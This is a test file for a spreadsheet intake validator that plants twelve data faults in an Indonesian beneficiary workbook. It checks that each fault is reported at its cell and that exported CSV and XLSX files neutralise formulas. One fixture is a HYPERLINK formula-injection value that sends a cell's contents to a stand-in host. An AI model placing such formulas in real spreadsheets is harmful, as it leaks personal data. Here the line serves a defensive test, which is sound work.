/**
 * Twelve faults, planted in one workbook as offices make them, and twelve messages that name their cells. The goldens are
 * what a person reads, in both languages; SENTRA_GOLDENS=write rewrites them, and the diff is the review.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { v7 } from 'uuid';
import { beforeAll, expect, it } from 'vitest';
import { readCsv } from '#files/csv-reader.ts';
import { writeCsv } from '#files/csv-writer.ts';
import { readWorkbook } from '#files/read-workbook.ts';
import { writeXlsx } from '#files/xlsx-writer.ts';
import { faultyTable } from '#reports/intake-faulty.ts';
import { findingWords, placeWords } from '#reports/intake-words.ts';
import { perform } from '../../db/command.ts';
import { readAsTenant } from '../../db/tenant.ts';
import { people, testHouse } from '../../db/testing.ts';
import { villages } from '../../db/testing-areas.ts';
import { holdIdentityKeys, identityKeysIn } from '../../identity/identity-keys.ts';
import { addPerson } from '../person/commands.ts';
import { faultyRows } from './queries.ts';
import { programmeIn, receive, workbookBytes } from './testing.ts';
import type { Cells, Sending } from './testing.ts';
import type { IntakeCard } from './schema.ts';

const house = testHouse();
const at = new Date('2026-11-22T03:00:00Z');
const HYPERLINK = '=HYPERLINK("http://contoh.example/?"&C6,"Klik")';

/** Another village of the name Sukorejo, so that the name alone says nothing. */
const SECOND_SUKOREJO = '3515172099';

const orang: readonly Cells[] = [
	['Daftar warga binaan, November 2026'],
	[],
	['No', 'Nama', 'NIK', 'No HP/WA', 'L/P', 'Tgl lahir', 'Desa/Kelurahan', 'RT/RW'],
	[1, 'Siti Aminah', '3515174107850012', 81234567890, 'P', '01/07/1985', 'Kalanganyar', '02/05'],
	[2, '', '3515174207850013', '0812 1111 2222', 'P', 1985, 'Kalanganyar', '02/05'],
	[3, HYPERLINK, null, '0812 1111 3333', 'L', '17 Agustus 1980', 'Kalanganyar', '02/05'],
	[4, 'Nur Hidayat', '351517010880003', null, 'L', 1980, 'Kalanganyar', '02/05'],
	[5, 'Sri Lestari', 3515174107900010, null, 'P', 1990, 'Kalanganyar', '02/05'],
	[6, 'Siti Aminah B', '3515174107850012', null, 'P', 1985, 'Kalanganyar', '03/05'],
	[7, 'Joko Susilo', '3515170101700001', null, 'L', 1970, 'Kalanganyar', '03/05'],
	[8, 'Agus Salim', null, '0812 pak RT', 'L', 1975, 'Kalanganyar', '03/05'],
	[9, 'Dewi Utami', null, null, 'P', 1992, 'Kalangayar Wetan', '03/05'],
	[10, 'Wahyu Adi', null, null, 'L', 1988, 'Sukorejo', '03/05'],
	[11, 'Rina Wati', null, '+62 812 5555 6666', 'P', '31/02/1991', 'Kalanganyar', '04/05'],
	[12, 'Bambang', null, null, 'cow', '17-08-1969', 'Kalanganyar', '04/05'],
	['Jumlah', null, null, null, 12, null, null, null],
];

const usaha: readonly Cells[] = [
	['Nama usaha', 'Pemilik', 'Produk', 'Kapasitas', 'Tenaga kerja', 'Desa', 'NIB', 'PIRT'],
	['Sisik Mas', 'Bu Siti', 'kerupuk sisik', '50-60 kg/hari', 5, 'Kalanganyar', '1234567890123', 'ada'],
	['Bandeng Asap', 'Pak Joko', 'bandeng', '1.700,50 kg per bulan', '12 orang', 'Kalanganyar', '-', 'belum'],
	['Terasi Wangi', 'Bu Rina', 'terasi', '4.078,64,00 kg/bulan', 3, 'Kalanganyar', null, null],
];

let sending: Sending;

beforeAll(async () => {
	holdIdentityKeys(identityKeysIn(Buffer.alloc(32, 5).toString('base64')));
	const ours = await people(house.sql);
	const actor = ours.as('owner');
	await house.sql`insert into area (code, parent_code, name, search_name)
		values (${SECOND_SUKOREJO}, '351517', 'Sukorejo', 'sukorejo')`;
	const programmeId = await programmeIn(house.sql, actor, [
		villages.kalanganyar,
		villages.sukorejo,
		SECOND_SUKOREJO,
	]);
	sending = { sql: house.sql, actor, programmeId };
	const joko = { name: 'Pak Joko', villageCode: villages.kalanganyar, identityNumber: '3515170101700001' };
	await perform(house.sql, addPerson, { actor, id: v7(), input: joko });
});

const golden = (name: string) => new URL(`goldens/${name}`, import.meta.url);

function told({ kind, judgement }: IntakeCard, locale: 'id' | 'en'): string[] {
	return judgement.findings.map((finding) => {
		const { what, todo } = findingWords(finding, locale);
		return `${finding.severity.padEnd(8)} ${placeWords(kind, finding, locale)}\n         ${what}\n         ${todo}\n`;
	});
}

it('tells each of twelve planted faults once, at its cell, in both languages', async () => {
	const bytes = workbookBytes({ Orang: orang, Usaha: usaha });
	const list = await receive(sending, { kind: 'people', bytes, at });
	const works = await receive(sending, { kind: 'enterprises', bytes, at });
	expect([list.layout.sheet, works.layout.sheet]).toEqual(['Orang', 'Usaha']);
	const messages = [...list.judgement.findings, ...works.judgement.findings];
	expect(messages.map(({ cell, code }) => `${cell} ${code}`)).toEqual([
		...['B5 NAME_MISSING', 'C7 NIK_LENGTH', 'C8 NIK_MANGLED', 'C9 NIK_TWICE', 'D11 PHONE_LETTERS'],
		...['G12 VILLAGE_UNKNOWN', 'G13 VILLAGE_AMBIGUOUS', 'F14 DATE_IMPOSSIBLE', 'E15 SEX_UNREADABLE'],
		...['B6 FORMULA_TEXT', 'C10 NIK_KNOWN', 'A16 ROW_TOTAL', 'D4 NUMBER_UNREADABLE'],
	]);
	// The row of totals is no fault of anybody's; the others are the twelve.
	expect(messages.filter(({ severity }) => severity !== 'left-out')).toHaveLength(12);
	expect(list.judgement).toMatchObject({ rows: 12, good: 3, faulty: 9, doubles: 1, leftOut: 1 });
	expect(works.judgement).toMatchObject({ rows: 3, good: 2, faulty: 1 });
	for (const locale of ['id', 'en'] as const) {
		const text = [...told(list, locale), ...told(works, locale)].join('\n');
		const file = golden(`planted.${locale}.txt`);
		if (process.env.SENTRA_GOLDENS === 'write') writeFileSync(file, text);
		expect(text).toBe(readFileSync(file, 'utf8'));
		expect(text).not.toMatch(/\d{12}/);
	}
});

it('hands the faulty rows back as text that no spreadsheet runs, and takes them in again when mended', async () => {
	const rows = orang.map((row, index) =>
		index === 5 ? row.map((cell, at) => (at === 4 ? 'cow' : cell)) : row,
	);
	const { intakeId } = await receive(sending, { kind: 'people', bytes: workbookBytes({ Orang: rows }), at });
	const { actor } = sending;
	const faulty = await readAsTenant(house.sql, actor, (tx) => faultyRows(tx, actor, intakeId, '2026-11-22'));
	const table = faultyTable({ ...faulty.card, rows: faulty.rows }, 'id');
	expect(table).toHaveLength(1 + 10);
	expect(table.find(([, name]) => name === HYPERLINK)?.at(-1)).toMatch(
		/^Jenis kelamin: Jenis kelamin ini belum/,
	);

	const csv = writeCsv(table, { style: 'id' });
	expect(csv).toContain(`'=HYPERLINK`);
	expect(csv).not.toMatch(/(^|[;\n])"?[=@]/);
	const back = readCsv(csv);
	expect(back.ok && back.value.grids[0]?.rows[0]?.at(-1)?.text).toBe('Yang perlu diperbaiki');
	const sheet = { name: 'Baris salah', rows: table.map((row) => row.map((value) => ({ value }))) };
	const xlsx = writeXlsx({ title: 'salah', sheets: [sheet] });
	const read = readWorkbook(xlsx, { name: 'salah.xlsx' });
	const cells = read.ok ? (read.value.grids[0]?.rows.flat() ?? []) : [];
	expect(cells.filter(({ formula }) => formula !== undefined)).toEqual([]);
	expect(cells.map(({ text }) => text)).toContain(HYPERLINK);

	const mended = table.map((row) => row.map((cell, at) => (at === 4 && cell === 'cow' ? 'L' : cell)));
	const sheets = { 'Baris salah': mended };
	const again = await receive(sending, { kind: 'people', bytes: workbookBytes(sheets), at });
	// The two that were mended, and the one whose number stood twice: its other row is not in this list. The number that
	// Excel spoilt is still spoilt.
	expect(again.judgement).toMatchObject({ rows: 10, good: 3, counts: { NIK_MANGLED: 1 } });
});
